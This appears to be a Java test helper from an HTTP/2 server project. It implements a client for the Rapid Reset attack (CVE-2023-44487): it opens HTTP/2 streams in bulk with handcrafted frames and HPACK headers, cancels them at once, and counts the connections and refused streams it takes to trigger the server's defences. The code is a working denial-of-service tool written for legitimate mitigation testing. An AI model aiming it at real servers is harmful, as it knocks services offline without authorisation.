package io.jvmroute.testing;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.util.function.IntConsumer;

/** A client that resets each stream as soon as it has opened it (CVE-2023-44487). */
public final class RapidResets {
    private static final int STREAMS_AT_A_TIME = 100;
    private static final int RST_STREAM = 3;
    private static final int PING = 6;
    private static final int ACK = 1;
    private static final int REFUSED_STREAM = 7;
    private static final byte[] CANCEL = {0, 0, 0, 8}; // RFC 9113 §7

    private RapidResets() {}

    /** So many requests for {@code path}, on as many connections as the server's patience asks for; how many those were. */
    public static int send(int port, String path, String cookie, int count) throws IOException {
        byte[] head = head(path, cookie);
        int connections = 0;
        for (int sent = 0; sent < count; connections++) {
            sent += reset(port, head, count - sent);
        }
        return connections;
    }

    /** Opens and resets streams on one connection until the server has enough of it; how many. */
    private static int reset(int port, byte[] head, int count) throws IOException {
        try (Socket socket = RawClient.connect(port)) {
            begin(socket);
            for (int sent = 0; sent < count; ) {
                ByteArrayOutputStream frames = new ByteArrayOutputStream();
                for (int i = 0; i < STREAMS_AT_A_TIME && sent < count; i++) {
                    int stream = 2 * sent++ + 1;
                    frames.write(frame(1, 0x5, stream, head)); // HEADERS with END_HEADERS and END_STREAM
                    frames.write(frame(RST_STREAM, 0, stream, CANCEL)); // RST_STREAM
                }
                try {
                    socket.getOutputStream().write(frames.toByteArray());
                    socket.getInputStream().skip(socket.getInputStream().available());
                } catch (IOException closedByTheServer) {
                    return sent;
                }
            }
            return count;
        }
    }

    /** Opens so many streams on a connection of its own, and resets them all when {@code forwarded} returns. */
    public static void sendAndReset(int port, String path, String cookie, int count, Runnable forwarded)
            throws IOException {
        byte[] head = head(path, cookie);
        try (Socket socket = RawClient.connect(port)) {
            begin(socket);
            ByteArrayOutputStream resets = new ByteArrayOutputStream();
            for (int i = 0; i < count; i++) {
                socket.getOutputStream().write(frame(1, 0x5, 2 * i + 1, head));
                resets.write(frame(RST_STREAM, 0, 2 * i + 1, CANCEL));
            }
            forwarded.run();
            socket.getOutputStream().write(resets.toByteArray());
        }
    }

    /**
     * Opens so many streams on one connection.
     *
     * @param whileOpen told how many of them the server has refused, once it has seen all, before the connection is closed
     */
    public static void open(int port, String path, String cookie, int count, IntConsumer whileOpen) throws IOException {
        byte[] head = head(path, cookie);
        try (Socket socket = RawClient.connect(port)) {
            begin(socket);
            for (int i = 0; i < count; i++) {
                socket.getOutputStream().write(frame(1, 0x5, 2 * i + 1, head));
            }
            socket.getOutputStream().write(frame(PING, 0, 0, new byte[8]));
            whileOpen.accept(refusedUntilPong(new DataInputStream(socket.getInputStream())));
        }
    }

    private static int refusedUntilPong(DataInputStream in) throws IOException {
        int refused = 0;
        while (true) {
            int lengthAndType = in.readInt();
            byte[] rest = in.readNBytes(5 + (lengthAndType >>> 8)); // flags, stream and payload
            int type = lengthAndType & 0xff;
            if (type == RST_STREAM && rest[rest.length - 1] == REFUSED_STREAM) {
                refused++;
            } else if (type == PING && rest[0] == ACK) {
                return refused;
            }
        }
    }

    private static void begin(Socket socket) throws IOException {
        socket.getOutputStream().write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII));
        socket.getOutputStream().write(frame(4, 0, 0, new byte[0])); // SETTINGS
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .putShort((short) (payload.length >> 8))
                .put((byte) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }

    /** RFC 7541: {@code :method GET} and {@code :scheme http} by their index, the others as literals of an indexed name. */
    private static byte[] head(String path, String cookie) throws IOException {
        ByteArrayOutputStream head = new ByteArrayOutputStream();
        head.write(0x82);
        head.write(0x86);
        literal(head, path, 0x04);
        literal(head, "h", 0x01);
        literal(head, cookie, 0x0f, 0x11);
        return head.toByteArray();
    }

    private static void literal(ByteArrayOutputStream head, String value, int... name) throws IOException {
        for (int octet : name) {
            head.write(octet);
        }
        head.write(value.length()); // below 127
        head.write(value.getBytes(US_ASCII));
    }
}
